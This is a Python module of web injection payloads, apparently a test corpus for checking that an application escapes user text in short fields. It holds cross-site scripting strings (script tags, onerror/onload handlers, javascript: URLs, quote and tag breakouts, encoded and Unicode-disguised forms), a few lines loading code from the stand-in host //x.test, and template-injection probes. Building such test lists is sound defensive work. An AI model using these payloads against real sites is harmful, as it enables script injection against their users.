"""Two hundred ways to slip a script into a text. Each would call ``alert``, navigate, or load something if it were read as markup.

Short ones fit a pseudonym (24 characters); none is over 80, the length of a cluster's title.
"""

from __future__ import annotations

from itertools import chain

_BALISES = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<script>alert`1`</script>",
    "</script><script>alert(1)</script>", "<script src=//x.test></script>", "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>", "<script>\nalert(1)\n</script>", "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">', "<img src onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img srcset=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>", "<img src=javascript:alert(1)>", "<img src=x:x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>", "<svg><use href=data:,x#y>", "<svg><set onbegin=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style>", "<svg><title><img src=x onerror=alert(1)></title>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><image href=x onerror=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<math><mi xlink:href=javascript:alert(1)>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<html onmouseenter=alert(1)>", "<frameset onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe onload=alert(1)>",
    "<object data=javascript:alert(1)>", "<object data=data:text/html,<script>alert(1)</script>>", "<embed src=javascript:alert(1)>",
    "<applet code=x>", "<base href=//x.test>", "<link rel=stylesheet href=//x.test>", "<link rel=import href=//x.test>",
    "<meta http-equiv=refresh content=0;url=//x.test>", "<meta charset=utf-7>", "<style>*{display:none}</style>",
    "<style>@import'//x.test'</style>", "<style onload=alert(1)></style>", "<title>x</title><script>alert(1)</script>",
    "<textarea autofocus onfocus=alert(1)>", "</textarea><script>alert(1)</script>", "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>x", "<form action=javascript:alert(1)><button>x", "<form><button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1)>", "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<audio autoplay onloadstart=alert(1) src=x>", "<video poster=javascript:alert(1)>",
    "<track onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<details><summary onclick=alert(1)>x", "<dialog open onclose=alert(1)>",
    "<marquee onstart=alert(1)>", "<marquee loop=1 onfinish=alert(1)>x", "<bgsound src=javascript:alert(1)>", "<blink onclick=alert(1)>x",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x", "<a href=JaVaScRiPt:alert(1)>x", "<a href=\x01javascript:alert(1)>x",
    "<a href=data:text/html,<script>alert(1)</script>>x", "<a href=vbscript:x>x", "<a href=//x.test>x</a>", "<a onmouseover=alert(1)>x",
    "<a target=_blank href=//x.test>x</a>", "<a ping=//x.test href=/>x</a>", "<div onmouseover=alert(1)>x", "<div style=width:expression(alert(1))>",
    "<div style=background:url(javascript:alert(1))>", "<p style=position:fixed;inset:0>x", "<b onclick=alert(1)>x</b>", "<x onclick=alert(1)>x",
    "<xss id=x tabindex=1 onfocus=alert(1)>", "<custom-element onclick=alert(1)>", "<slot name=x onslotchange=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<plaintext>", "<xmp><img src=x onerror=alert(1)></xmp>", "<listing>x",
    "<table background=javascript:alert(1)>", "<td><script>alert(1)</script></td>", "<tr><td></table><script>alert(1)</script>",
    "<option><style></option></select><img src=x onerror=alert(1)>", "<select><noembed></select><script>alert(1)</script>",
    "<portal src=//x.test>", "<fencedframe src=//x.test>", "<object><param name=src value=javascript:alert(1)>",
)  # fmt: skip
_SORTIES = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1)", '"/><img src=x onerror=alert(1)>', "--><script>alert(1)</script>", "--!><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "*/</script><script>alert(1)</script>",
    '";alert(1);//', "';alert(1);//", "\\\";alert(1);//", "\\';alert(1)//", "'-alert(1)-'", '"-alert(1)-"', "${alert(1)}", "`${alert(1)}`",
    '{"a":"</script><script>alert(1)</script>"}', '"}]);alert(1);//', "\u2028alert(1)\u2029", "1;alert(1)", ");alert(1);(", "]});alert(1);//",
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>", "//x.test/%0d%0aX: y",
    "?x=<script>alert(1)</script>", "#<img src=x onerror=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;", "&quot; onclick=&quot;alert(1)", "&apos;onclick=alert(1)", "&nbsp;&copy;&lt", "&#0;&#x110000;",
)  # fmt: skip
_GABARITS = (
    "{{7*7}}", "{{ config }}", "{{ ''.__class__ }}", "{% raw %}{{x}}{% endraw %}", "{# x #}", "{{'<b>'|safe}}", "#{7*7}", "<%= 7*7 %>", "<?php phpinfo() ?>",
    "{{constructor.constructor('alert(1)')()}}", "@(7*7)", "[[${7*7}]]", "%{7*7}", "__proto__", "constructor", "toString", "hasOwnProperty", "$&$`$'$1",
    "%s%n%x", "{0}{nom}{.__class__}", "{capacite}",
)  # fmt: skip
_DEGUISEES = (
    "<\u200bscript>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<scr\u00adipt>alert(1)</script>", "‹img src=x onerror=alert(1)›",
    "\u202e<script>alert(1)</script>", "<img\u00a0src=x\u00a0onerror=alert(1)>", "<img src=x\u2028onerror=alert(1)>", "<İmg src=x onerror=alert(1)>",
    "<ſcript>alert(1)</ſcript>", "\ufeff<svg onload=alert(1)>", "+ADw-script+AD4-alert(1)", "¼script¾alert(1)¼/script¾",
    "<img src=x o\u0000nerror=alert(1)>", "<s\u0301cript>alert(1)</s\u0301cript>", "<svg\u3000onload=alert(1)>", "⟨script⟩alert(1)⟨/script⟩",
    "<a href=jav&#x09;ascript:alert(1)>x", "<img src=x onerror=\\u0061lert(1)>", "<svg onload=&#97;lert(1)>", "<svg onload=top[8680439..toString(30)](1)>",
    "<img src=x onerror=self['al'+'ert'](1)>", "<img src=x onerror=location=name>", "👩‍💻<svg onload=alert(1)>", "مرحبا<svg onload=alert(1)>",
)  # fmt: skip
CHARGES: tuple[str, ...] = tuple(dict.fromkeys(chain(_BALISES, _SORTIES, _GABARITS, _DEGUISEES)))
#: One of each family, short enough for the shortest field (60 signs): what every run tries everywhere.
DOUZE: tuple[str, ...] = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", '"><script>alert(1)</script>',
    "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", "&lt;img src=x onerror=alert(1)&gt;",
    "{{7*7}}", "＜script＞alert(1)＜/script＞",
)  # fmt: skip
